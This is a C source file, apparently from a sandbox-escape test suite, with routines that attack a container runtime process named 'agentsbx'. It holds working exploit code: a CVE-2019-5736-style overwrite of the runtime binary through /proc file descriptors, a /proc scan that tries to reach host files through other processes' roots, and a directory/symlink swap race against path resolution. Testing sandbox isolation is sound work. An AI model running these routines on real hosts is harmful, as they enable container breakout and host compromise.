/* Attacks that run in a loop beside the runtime: for its program file, and for paths that it is about to resolve. */
#include "attack.h"

#include <sys/syscall.h>

/* Tries to write to the file behind a descriptor as CVE-2019-5736 does: opened for reading while it was the program of a
 * process, opened again for writing when that process has gone on. */
static int rewrite(int fd, double seconds) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    const double end = now() + seconds;
    int seen = 0;
    do {
        static const int FLAGS[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
        for (int n = 0; n < 3; n++) {
            int again = open(path, FLAGS[n]);
            if (again >= 0 && write(again, "#!overwritten\n", 14) == 14) return 0;
            if (errno != ETXTBSY || !seen) seen = errno;
            if (again >= 0) close(again);
        }
        usleep(500);
    } while (now() < end);
    return errno = seen, -1;
}

/* `overwrite FD`: what is behind it is the runtime, this process's program before it became this one. */
int overwrite(int argc, char **argv) {
    int fd = argc > 2 ? atoi(argv[2]) : open("/proc/self/exe", O_RDONLY);
    char target[PATH_MAX], path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    printf("behind %s\n", target);
    printf("overwrite %s\n", rewrite(fd, 0.2) == 0 ? "ok" : strerrorname_np(errno));
    return 0;
}

/* `scan SECONDS [FILE]`: looks through /proc for processes whose program is none of the image's, as fast as it can, and for that file of the
 * host behind their roots. */
int scan(int argc, char **argv) {
    const double end = now() + (argc > 2 ? atof(argv[2]) : 1);
    long rounds = 0, seen = 0, opened = 0, written = 0, followed = 0, escaped = 0;
    int last = 0, refused = 0;
    /* The programs that this image runs. Numbers of inodes are another thing in each layered root. */
    struct stat own, busybox;
    if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &busybox)) return perror("stat"), 1;
    printf("scanning\n");
    fflush(stdout);
    while (now() < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        rounds++;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (!pid || pid == getpid()) continue;
            char path[64], comm[64] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            slurp(path, comm, sizeof comm);
            if (strncmp(comm, "agentsbx", 8)) continue;
            if (pid != last) seen++;
            last = pid;
            /* Other doors to the same file, and to the files that it has open. */
            for (int n = 0; n < 16; n++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
                if (can_open(path, O_PATH) == 0) followed++;
            }
            snprintf(path, sizeof path, "/proc/%d/root/", pid);
            if (can_open(path, O_RDONLY | O_DIRECTORY) == 0) followed++;
            char file[PATH_MAX];
            snprintf(file, sizeof file, "/proc/%d/root%s", pid, argc > 3 ? argv[3] : "/no-such-file");
            if (can_open(file, O_RDONLY) == 0) escaped++;
            snprintf(path, sizeof path, "/proc/%d/cwd/", pid);
            if (can_open(path, O_RDONLY | O_DIRECTORY) == 0) followed++;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY);
            struct stat it;
            if (fd < 0) {
                refused = errno;
                continue;
            }
            if (fstat(fd, &it) == 0 && it.st_size != own.st_size && it.st_size != busybox.st_size) {
                opened++;
                if (rewrite(fd, 0.2) == 0) written++;
            }
            close(fd);
        }
        if (proc) closedir(proc);
    }
    printf("rounds %ld\nseen %ld\nopened %ld\nfollowed %ld\nescaped %ld\nwritten %ld\nrefused %s\n", rounds, seen, opened, followed,
           escaped, written, refused ? strerrorname_np(refused) : "-");
    return 0;
}

/* `swap PATH TARGET SECONDS`: PATH is a directory and a symbolic link to TARGET by turns. */
int swap(int argc, char **argv) {
    if (argc < 5) return 2;
    char other[PATH_MAX];
    snprintf(other, sizeof other, "%s.other", argv[2]);
    mkdir(argv[2], 0755);
    if (symlink(argv[3], other) && errno != EEXIST) return perror(other), 1;
    const double end = now() + atof(argv[4]);
    long turns = 0;
    printf("swapping\n");
    fflush(stdout);
    while (now() < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, other, 2 /* EXCHANGE */)) {
            /* Some filesystems can't: the long way. */
            rename(argv[2], "/tmp/swapped"), rename(other, argv[2]), rename("/tmp/swapped", other);
        }
        if (++turns % 64 == 0) usleep(100);
    }
    printf("turns %ld\n", turns);
    return 0;
}
